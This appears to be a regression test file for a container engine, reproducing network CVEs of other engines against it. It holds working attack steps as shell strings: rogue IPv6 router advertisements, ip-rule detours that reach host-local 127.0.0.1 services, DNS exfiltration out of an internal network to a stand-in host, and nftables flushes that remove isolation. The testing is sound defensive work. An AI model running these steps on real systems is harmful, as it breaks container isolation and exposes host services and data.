// SPDX-FileCopyrightText: 2026 The Kiste developers
// SPDX-License-Identifier: GPL-3.0-or-later
//
// Vulnerabilities of other engines' networks, tried on this one. Each test is named after the family's first number;
// docs/security.md lists them.
#include "tests/privileged/security/hostileimage.h"
#include "tests/privileged/security/hostnetwork.h"

#include <QFile>
#include <QTest>

#include <sys/stat.h>
#include <unistd.h>

using namespace kiste::test;
using namespace Qt::StringLiterals;

namespace {

/// A web server whose page is only for its own machine.
const QString guarded = u"mkdir -p /www/cgi-bin; printf '#!/bin/sh\\necho\\ncase $REMOTE_ADDR in *127.0.0.1*|::1|?::1?) echo "
                        u"secret;; *) echo asked by $REMOTE_ADDR;; esac\\n' "
                        ">/www/cgi-bin/who; chmod +x /www/cgi-bin/who; exec httpd -f -p 80 -h /www"_s;

} // namespace

class TestCveNetwork : public QObject
{
    Q_OBJECT

    using Outcome = EngineFixture::Outcome;
    std::unique_ptr<EngineFixture> m_engine;
    std::unique_ptr<HostNetwork> m_network;

    Outcome ctl(const QStringList &words) const { return m_engine->ctl(words); }
    Outcome exec(const QString &container, const QString &script) const
    {
        return ctl({u"exec"_s, container, u"sh"_s, u"-c"_s, script});
    }
    /// A container that runs; what went wrong, or nothing.
    QString start(const QString &name, const QStringList &options, const QString &script = u"sleep 1000"_s)
    {
        const Outcome started = ctl(QStringList{u"run"_s, u"-d"_s, u"--name"_s, name} + options
                                    + QStringList{u"tools"_s, u"sh"_s, u"-c"_s, script});
        return started.exitCode == 0 ? QString() : started.error;
    }
    /// The guarded page by the time this returns.
    QString serve(const QString &name, const QStringList &options)
    {
        if (const QString why = start(name, options, guarded); !why.isEmpty())
            return why;
        for (int i = 0; i < 200; ++i) {
            if (exec(name, u"wget -q -O- http://127.0.0.1/cgi-bin/who"_s).output.contains("secret"_L1))
                return {};
            QTest::qWait(50);
        }
        return u"the server does not answer"_s;
    }
    static QString curl(const QString &address)
    {
        return u"curl -sS -g --connect-timeout 2 --max-time 8 http://%1/cgi-bin/who"_s.arg(address);
    }
    QString addressOf(const QString &container) const
    {
        return m_network->inside(container, u"ip -4 -o address show eth0 | sed 's/.*inet //; s,/.*,,'"_s).output;
    }

private slots:
    void initTestCase()
    {
        if (::geteuid() != 0)
            QSKIP("the engine runs as root");
        m_engine = std::make_unique<EngineFixture>();
        QVERIFY2(m_engine->isUp(), m_engine->whyNot().constData());
        struct stat ours = {};
        struct stat theirs = {};
        QCOMPARE(::stat("/proc/self/ns/net", &ours), 0);
        QCOMPARE(::stat(qPrintable(u"/proc/%1/ns/net"_s.arg(m_engine->pidOf(u"helper"_s))), &theirs), 0);
        QVERIFY2(ours.st_ino != theirs.st_ino, "the engine must not live in this machine's network");
        m_network = std::make_unique<HostNetwork>(*m_engine);
        const QString why = m_network->setUp();
        QVERIFY2(why.isEmpty(), qPrintable(why));
        TarBuilder tar = ordinaryLayer();
        for (const char *applet : {"ip", "wget", "httpd", "nslookup", "chmod", "printf", "nc"})
            tar.symlink(std::string("bin/") + applet, "busybox");
        const Outcome loaded = loadImage(*m_engine, u"tools"_s, tar);
        QVERIFY2(loaded.exitCode == 0, qPrintable(loaded.error));
    }
    void cleanup()
    {
        if (!m_engine)
            return;
        ctl({u"rm"_s, u"-f"_s, u"a"_s, u"b"_s, u"web"_s});
        ctl({u"network"_s, u"prune"_s, u"-f"_s});
    }
    void cleanupTestCase()
    {
        m_network.reset();
        m_engine.reset();
    }

    /// Who asks from elsewhere must not look like the container's own machine, which programs trust.
    void cve_2021_20199()
    {
        const QString why = serve(u"web"_s, {u"-p"_s, u"8080:80"_s, u"-p"_s, u"127.0.0.1:8081:80"_s});
        QVERIFY2(why.isEmpty(), qPrintable(why));
        for (const QString &address : {u"192.0.2.1:8080"_s, u"[2001:db8::1]:8080"_s}) {
            const Ran asked = m_network->neighbour(curl(address));
            QVERIFY2(asked.output.contains(address.startsWith(u'[') ? "2001:db8::2"_L1 : "192.0.2.2"_L1),
                     qPrintable(address + asked.output));
        }
        for (const QString &address : {u"127.0.0.1:8080"_s, u"127.0.0.1:8081"_s, u"192.0.2.1:8080"_s,
                                       u"[2001:db8::1]:8080"_s, u"[::1]:8080"_s}) {
            const Ran asked = m_network->host(curl(address));
            QVERIFY2(!asked.output.contains("secret"_L1), qPrintable(address + asked.output));
            if (!address.startsWith(u"[::1]"_s))
                QVERIFY2(asked.output.contains("asked by"_L1), qPrintable(address + asked.output));
        }
    }

    /// Another container announces itself as a router.
    void cve_2020_13401()
    {
        QVERIFY2(start(u"a"_s, {}).isEmpty(), "a");
        QVERIFY2(start(u"b"_s, {u"--cap-add"_s, u"NET_RAW"_s}).isEmpty(), "b");
        const auto announce = [&] { return exec(u"b"_s, u"probe advertise"_s).output; };
        const QString announced = announce();
        QVERIFY2(announced.contains("advertise=yes"_L1), qPrintable(announced));
        // One that believes such things hears it, so that it does come through.
        QVERIFY(m_network->inside(u"a"_s, u"cd /proc/sys/net/ipv6/conf/eth0 && echo 2 >accept_ra && echo 1 >autoconf"_s)
                    .code
                == 0);
        QTRY_VERIFY2(announce().contains("yes"_L1)
                         && m_network->inside(u"a"_s, u"ip -6 address show eth0"_s).output.contains("2001:db8:bad:"_L1),
                     qPrintable(m_network->inside(u"a"_s, u"ip -6 address"_s).output));
        QCOMPARE(ctl({u"rm"_s, u"-f"_s, u"a"_s}).exitCode, 0);
        QVERIFY2(start(u"a"_s, {}).isEmpty(), "a");
        for (int i = 0; i < 3; ++i) {
            QVERIFY(announce().contains("yes"_L1));
            QTest::qWait(100); // nothing shall happen, for which there is no signal to wait for
        }
        const QString victim =
            exec(u"a"_s, u"ip -6 address; ip -6 route; cat /proc/sys/net/ipv6/conf/eth0/accept_ra"_s).output;
        QVERIFY2(!victim.contains("2001:db8:bad:"_L1) && !victim.contains("proto ra"_L1) && victim.endsWith("0\n"_L1),
                 qPrintable(victim));
        const QString machine = m_network->host(u"ip -6 address; ip -6 route"_s).output;
        QVERIFY2(!machine.contains("2001:db8:bad:"_L1) && !machine.contains("proto ra"_L1), qPrintable(machine));
    }

    /// What the machine offers to itself alone: route_localnet, which publishing at 127.0.0.1 takes, opens it to others.
    void cve_2020_8558()
    {
        m_network->keep(false,
                        {u"socat"_s, u"TCP-LISTEN:7777,bind=127.0.0.1,fork,reuseaddr"_s, u"SYSTEM:echo secret"_s});
        QTRY_VERIFY(m_network->host(u"ss -ltn"_s).output.contains("127.0.0.1:7777"_L1));
        QVERIFY(m_network->host(u"socat -T3 - TCP:127.0.0.1:7777 </dev/null"_s).output.contains("secret"_L1));
        QVERIFY2(serve(u"web"_s, {u"-p"_s, u"127.0.0.1:8080:80"_s}).isEmpty(), "web");
        // A container with all that its user may ask for sends packets for 127.0.0.1 to the machine.
        const QString why =
            start(u"a"_s, {u"--cap-add"_s, u"NET_ADMIN"_s, u"--sysctl"_s, u"net.ipv4.conf.all.route_localnet=1"_s});
        QVERIFY2(why.isEmpty(), qPrintable(why));
        const QString detour =
            u"ip route add 127.0.0.1/32 via %1 table 99; ip rule add pref 1 to 127.0.0.1 lookup 99; ip rule del pref 0; ip rule add pref 2 lookup local; "_s;
        const Outcome routed = exec(u"a"_s,
                                    detour.arg(u"$(ip route | sed -n 's/default via \\([^ ]*\\).*/\\1/p')"_s)
                                            .replace(u"sed"_s, u"busybox sed"_s)
                                        + u"ip rule"_s);
        QVERIFY2(routed.output.contains("lookup 99"_L1), qPrintable(routed.output + routed.error));
        for (const QString &port : {u"7777"_s, u"8080"_s}) {
            const Outcome tried = exec(u"a"_s, u"wget -q -T 3 -O- http://127.0.0.1:%1/cgi-bin/who"_s.arg(port));
            QVERIFY2(!tried.output.contains("secret"_L1) && !tried.output.contains("asked by"_L1),
                     qPrintable(tried.output));
        }
        // And so does a neighbour, who needs no leave of ours.
        m_network->host(u"echo 1 >/proc/sys/net/ipv4/conf/up0/route_localnet"_s);
        const Ran tried = m_network->neighbour(
            u"echo 1 >/proc/sys/net/ipv4/conf/all/route_localnet; "_s + detour.arg(u"192.0.2.1"_s)
            + curl(u"127.0.0.1:8080"_s)
            + u" --interface 192.0.2.2; ip rule add pref 0 lookup local; ip rule del pref 1; ip rule del pref 2"_s);
        m_network->host(u"echo 0 >/proc/sys/net/ipv4/conf/up0/route_localnet"_s);
        QVERIFY2(!tried.output.contains("asked by"_L1) && !tried.output.contains("secret"_L1),
                 qPrintable(tried.output));
    }

    /// Names are a way out of an internal network, if questions are passed on.
    void cve_2024_29018()
    {
        const QString heard = m_engine->path(u"heard"_s);
        m_network->keep(true, {u"socat"_s, u"-u"_s, u"UDP-RECV:53,reuseaddr"_s, u"OPEN:%1,creat,append"_s.arg(heard)});
        const auto wasHeard = [&](const char *word) {
            QFile file(heard);
            return file.open(QIODevice::ReadOnly) && file.readAll().contains(word);
        };
        const auto ask = [&](const QString &container, const QString &name) {
            return exec(container, u"nslookup %1.example; true"_s.arg(name));
        };
        // An ordinary network passes the question on to whom it was told.
        QVERIFY(ctl({u"network"_s, u"create"_s, u"open"_s}).exitCode == 0);
        QVERIFY(ctl({u"network"_s, u"create"_s, u"--internal"_s, u"closed"_s}).exitCode == 0);
        QVERIFY2(start(u"a"_s, {u"--network"_s, u"open"_s, u"--dns"_s, u"192.0.2.2"_s}).isEmpty(), "a");
        QVERIFY2(start(u"b"_s, {u"--network"_s, u"closed"_s, u"--dns"_s, u"192.0.2.2"_s}).isEmpty(), "b");
        ask(u"a"_s, u"innocent"_s);
        QTRY_VERIFY(wasHeard("innocent"));
        ask(u"b"_s, u"stolen"_s);
        for (const QString &server : {u"192.0.2.2"_s, u"192.0.2.1"_s, u"2001:db8::2"_s})
            exec(u"b"_s, u"nslookup stolen.example %1; true"_s.arg(server));
        ask(u"a"_s, u"afterwards"_s); // which comes later than what was stolen
        QTRY_VERIFY(wasHeard("afterwards"));
        QVERIFY(!wasHeard("stolen"));
        // And no other way: not by IPv6, not by a route of one's own (CVE-2024-32473).
        const Outcome out = exec(
            u"b"_s,
            u"ip route; ip -6 route | grep default; wget -q -T 2 -O- http://192.0.2.2:7000/; wget -q -T 2 -O- 'http://[2001:db8::2]:7000/'"_s);
        QVERIFY2(!out.output.contains("default"_L1), qPrintable(out.output));
    }

    /// IPv6 was left on, with addresses that nobody filters, in networks that have none.
    void cve_2024_32473()
    {
        QVERIFY(ctl({u"network"_s, u"create"_s, u"--ipv6=false"_s, u"four"_s}).exitCode == 0);
        QVERIFY2(start(u"a"_s, {u"--network"_s, u"four"_s}).isEmpty(), "a");
        QVERIFY(exec(u"a"_s, u"ip -4 address show eth0"_s).output.contains("inet "_L1));
        const QString six = exec(u"a"_s, u"ip -6 address show eth0; ip -6 route | grep eth0"_s).output;
        QVERIFY2(six.isEmpty(), qPrintable(six));
    }

    /// A firewall that is reloaded takes isolation away: other networks, and ports of 127.0.0.1 (CVE-2025-54410).
    void cve_2025_54388()
    {
        QVERIFY(ctl({u"network"_s, u"create"_s, u"one"_s}).exitCode == 0);
        QVERIFY(ctl({u"network"_s, u"create"_s, u"two"_s}).exitCode == 0);
        QVERIFY2(serve(u"web"_s, {u"--network"_s, u"one"_s, u"-p"_s, u"127.0.0.1:8081:80"_s}).isEmpty(), "web");
        QVERIFY2(start(u"a"_s, {u"--network"_s, u"one"_s}).isEmpty(), "a");
        QVERIFY2(start(u"b"_s, {u"--network"_s, u"two"_s}).isEmpty(), "b");
        const QString address = addressOf(u"web"_s);
        const QString get = u"wget -q -T 2 -O- http://%1/cgi-bin/who"_s.arg(address);
        QVERIFY2(exec(u"a"_s, get).output.contains("asked by"_L1), qPrintable(address));
        const auto isApart = [&] {
            return !exec(u"b"_s, get).output.contains("asked by"_L1)
                && m_network->neighbour(curl(u"192.0.2.1:8081"_s)).code != 0
                && m_network->neighbour(curl(address)).code != 0;
        };
        QVERIFY(isApart());
        const QString rules = m_network->host(u"nft -s list table inet kiste"_s).output;
        for (const QString &reload :
             {u"nft flush ruleset"_s, u"nft delete table inet kiste"_s, u"nft flush table inet kiste"_s}) {
            QVERIFY(m_network->host(reload).code == 0);
            QTRY_COMPARE(m_network->host(u"nft -s list table inet kiste"_s).output, rules);
            QVERIFY2(isApart(), qPrintable(reload));
        }
        QVERIFY(m_network->host(curl(u"127.0.0.1:8081"_s)).output.contains("asked by"_L1));
        QVERIFY(exec(u"a"_s, get).output.contains("asked by"_L1));
    }
};

QTEST_GUILESS_MAIN(TestCveNetwork)
#include "tst_cvenetwork.moc"
